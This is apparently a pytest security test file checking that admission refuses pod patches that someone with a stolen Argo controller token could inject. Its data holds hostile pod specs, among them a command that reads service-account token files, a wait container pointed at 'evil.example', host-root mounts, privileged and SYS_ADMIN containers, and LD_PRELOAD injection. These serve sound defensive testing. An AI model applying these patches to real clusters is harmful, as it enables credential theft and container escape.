"""Issue 16, rows 12 and 14: what a stolen token of the service could have Argo's controller start.

The service gives parameters to the chart's templates, and parameters end up in podSpecPatch. Before: an extra container
with the product image and its step's token, `wait` with another command, a token for any audience, profiles Unconfined,
host ports, system-node-critical, ConfigMaps of others, sysctls and host aliases were admitted.
"""

from typing import Any

import pytest

from tests.attacks.impersonation import Thief, refused
from tests.e2e.live import Cluster
from tests.e2e.step_pods import pod

Object = dict[str, Any]


def main(**fields: Any) -> Object:
    return {"containers": [{"name": "main", **fields}]}


def wait(**fields: Any) -> Object:
    return {"containers": [{"name": "wait", **fields}]}


def volume(**source: Any) -> Object:
    return {"volumes": [{"name": "evil", **source}]}


def token(**fields: Any) -> Object:
    return volume(projected={"sources": [{"serviceAccountToken": {"path": "token", **fields}}]})


EMISSARY = ["/var/run/argo/argoexec", "emissary", "--"]
UNCONFINED = {"type": "Unconfined"}
SECRET = {"secretKeyRef": {"name": "opsjobs-store", "key": "secretKey"}}
CONTAINERS, FIELDS, ONLY_FIELDS = "no other (admission.sidecars)", "does not set", "sets only the fields"
IMAGES, MAIN, EXECUTORS = "admission.stepImages", "runs a step of the product", "run argoexec init and argoexec wait"
PRIVILEGED, RESTRICTED = "only the steps of addon, reboot and dumplog", "is restricted"
VOLUMES, SECRETS, VARIABLES = "no host directory", "no Secret but", "no variables but Argo's own"
#: Of a step that has no host → what the refusal says.
PATCHES: dict[str, tuple[Object, str]] = {
    "a container with the product's image": (
        {"containers": [{"name": "evil", "image": "opsjobs:dev", "command": ["sh"]}]},
        CONTAINERS,
    ),
    "an init container": ({"initContainers": [{"name": "evil", "image": "opsjobs:dev"}]}, CONTAINERS),
    "wait with another command": (wait(command=["sh", "-c", "cat /var/run/secrets/*/*/token"]), EXECUTORS),
    "wait as another part of argoexec": (wait(command=["argoexec", "emissary", "--", "sh"]), EXECUTORS),
    "wait that speaks to another server": (wait(args=["--server=https://evil.example"]), EXECUTORS),
    "wait with another image": (wait(image="evil:1"), IMAGES),
    "wait with the product's image": (wait(image="opsjobs:dev"), IMAGES),
    "an image that begins like Argo's": (wait(image="quay.io/argoproj/argoexec:1/evil"), IMAGES),
    "another image": (main(image="evil:1"), IMAGES),
    "another command": (main(command=["sh", "-c", "id"]), MAIN),
    "another command by Argo's": (main(command=[*EMISSARY, "sh", "-c", "id"]), MAIN),
    "a module that is not ours": (main(command=[*EMISSARY, "python3", "-m", "http.server"]), MAIN),
    "code before our module": (main(command=[*EMISSARY, "python3 -c x", "-m", "workflow_templates.x"]), MAIN),
    "modules from elsewhere": (main(env=[{"name": "PYTHONPATH", "value": "/etc/opsjob"}]), VARIABLES),
    "a library": (main(env=[{"name": "LD_PRELOAD", "value": "/etc/opsjob/x"}]), VARIABLES),
    "a Secret as a variable": (main(env=[{"name": "ARGO_X", "valueFrom": SECRET}]), VARIABLES),
    "a Secret as variables": (main(envFrom=[{"secretRef": {"name": "opsjobs-store"}}]), "settings of the store"),
    "a ConfigMap as variables": (main(envFrom=[{"configMapRef": {"name": "another"}}]), "settings of the store"),
    "variables for wait": (wait(envFrom=[{"configMapRef": {"name": "opsjobs-store"}}]), "settings of the store"),
    "another directory": (main(workingDir="/etc/opsjob"), ONLY_FIELDS),
    "a host port": (main(ports=[{"containerPort": 80, "hostPort": 80}]), ONLY_FIELDS),
    "a hook": (wait(lifecycle={"postStart": {"exec": {"command": ["sh"]}}}), ONLY_FIELDS),
    "a probe": (main(livenessProbe={"exec": {"command": ["sh"]}}), ONLY_FIELDS),
    "a token for another audience": (token(audience="vault"), "for another audience"),
    "one that lives long": (token(audience="opsjobs", expirationSeconds=86400), "for another audience"),
    "a Secret among other things": (volume(projected={"sources": [{"secret": {"name": "x"}}]}), "for another audience"),
    "another job's files": (volume(configMap={"name": "another-job"}), VOLUMES),
    "a host directory": (volume(hostPath={"path": "/"}), VOLUMES),
    "a claim": (volume(persistentVolumeClaim={"claimName": "x"}), VOLUMES),
    "a network file system": (volume(nfs={"server": "evil", "path": "/"}), VOLUMES),
    "another Secret": (volume(secret={"secretName": "another"}), SECRETS),
    "privilege": (main(securityContext={"privileged": True, "allowPrivilegeEscalation": True}), PRIVILEGED),
    "a capability": (main(securityContext={"capabilities": {"drop": ["ALL"], "add": ["SYS_ADMIN"]}}), RESTRICTED),
    "fewer dropped": (main(securityContext={"capabilities": {"drop": ["NET_RAW"]}}), RESTRICTED),
    "root": (main(securityContext={"runAsUser": 0, "runAsNonRoot": False}), RESTRICTED),
    "seccomp off": (main(securityContext={"seccompProfile": UNCONFINED}), RESTRICTED),
    "AppArmor off": (main(securityContext={"appArmorProfile": UNCONFINED}), RESTRICTED),
    "privilege for wait": (wait(securityContext={"privileged": True}), "beside main"),
    "a capability for wait": (wait(securityContext={"capabilities": {"add": ["SYS_PTRACE"]}}), "beside main"),
    "seccomp off for wait": (wait(securityContext={"seccompProfile": UNCONFINED}), "beside main"),
    "AppArmor off for all": ({"securityContext": {"appArmorProfile": UNCONFINED}}, "neither sysctls"),
    "seccomp off for all": ({"securityContext": {"seccompProfile": UNCONFINED}}, "neither sysctls"),
    "sysctls": (
        {"securityContext": {"sysctls": [{"name": "kernel.shm_rmid_forced", "value": "1"}]}},
        "neither sysctls",
    ),
    "the host's processes": ({"hostPID": True}, "shares the host's processes"),
    "the host's network": ({"hostNetwork": True}, "shares the host's processes"),
    "the host's memory": ({"hostIPC": True}, FIELDS),
    "each other's processes": ({"shareProcessNamespace": True}, FIELDS),
    "host aliases": ({"hostAliases": [{"ip": "10.0.0.1", "hostnames": ["kubernetes.default.svc"]}]}, FIELDS),
    "a name server": ({"dnsPolicy": "None", "dnsConfig": {"nameservers": ["10.0.0.1"]}}, FIELDS),
    "a node past the scheduler": ({"nodeName": "control-plane"}, FIELDS),
    "a gate": ({"readinessGates": [{"conditionType": "x"}]}, FIELDS),
    "a part of Kubernetes' own": ({"priorityClassName": "system-node-critical"}, "no part of Kubernetes' own"),
    "an account of another kind": ({"serviceAccountName": "default"}, "runs as the ServiceAccount"),
}
STEP = "dumplog/dumplog"


def pods(cluster: Cluster) -> str:
    return f"/api/v1/namespaces/{cluster.jobs}/pods"


@pytest.mark.parametrize("spoiled", PATCHES.values(), ids=PATCHES)
def test_no_parameter_makes_more_of_a_step(cluster: Cluster, thief: Thief, spoiled: tuple[Object, str]) -> None:
    patch, why = spoiled
    argo = thief.with_token_of("argo", "argo")
    assert refused(argo.create(pods(cluster), pod(cluster, STEP, patch)), why)


ON_HOST: dict[str, tuple[str, Object, str]] = {
    "another command as root": ("addon/node", main(command=[*EMISSARY, "sh", "-c", "id"]), MAIN),
    "another type's module": (
        "addon/node",
        main(command=[*EMISSARY, "python3", "-m", "workflow_templates.exportimage.export"]),
        PRIVILEGED,
    ),
    "root itself": ("addon/node", main(securityContext={"runAsUser": 0}), PRIVILEGED),
    "more beside privilege": ("addon/node", main(securityContext={"seLinuxOptions": {"type": "spc_t"}}), PRIVILEGED),
    "the host's network": ("addon/node", {"hostNetwork": True}, "only a reboot's its network"),
    "the keys of the store": ("addon/node", volume(secret={"secretName": "opsjobs-store"}), SECRETS),
    "a host directory": ("reboot/reboot", volume(hostPath={"path": "/"}), VOLUMES),
    "the account with the store's keys": ("addon/node", {"serviceAccountName": "opsjob-dumplog"}, PRIVILEGED),
    "the account that checks": ("addon/node", {"serviceAccountName": "opsjob-preflight"}, PRIVILEGED),
    "the registry's password": (
        "reboot/cordon",
        volume(secret={"secretName": "opsjobs-registry"}),
        SECRETS,
    ),
}


@pytest.mark.parametrize("spoiled", ON_HOST.values(), ids=ON_HOST)
def test_a_step_on_a_host_is_the_products_own(cluster: Cluster, thief: Thief, spoiled: tuple[str, Object, str]) -> None:
    step, patch, why = spoiled
    argo = thief.with_token_of("argo", "argo")
    assert refused(argo.create(pods(cluster), pod(cluster, step, patch)), why)


def test_nobody_but_argos_controller_starts_a_step(cluster: Cluster, thief: Thief) -> None:
    """Controllers of Kubernetes neither, which start what an editor of the namespace asks them for."""
    made = pod(cluster, "addon/node")
    for account, namespace in (("replicaset-controller", "kube-system"), ("job-controller", "kube-system")):
        assert refused(thief.with_token_of(account, namespace).create(pods(cluster), made), "only Argo's controller")


def test_no_step_is_labelled_as_another_jobs(cluster: Cluster, thief: Thief) -> None:
    argo = thief.with_token_of("argo", "argo")
    for labels in ({"opsjob.io/job-id": "victim-d4e5f6"}, {"workflows.argoproj.io/workflow": "victim-d4e5f6"}):
        made = pod(cluster, "addon/node")
        made["metadata"]["labels"] |= labels
        assert refused(argo.create(pods(cluster), made), "named and labelled by its job")
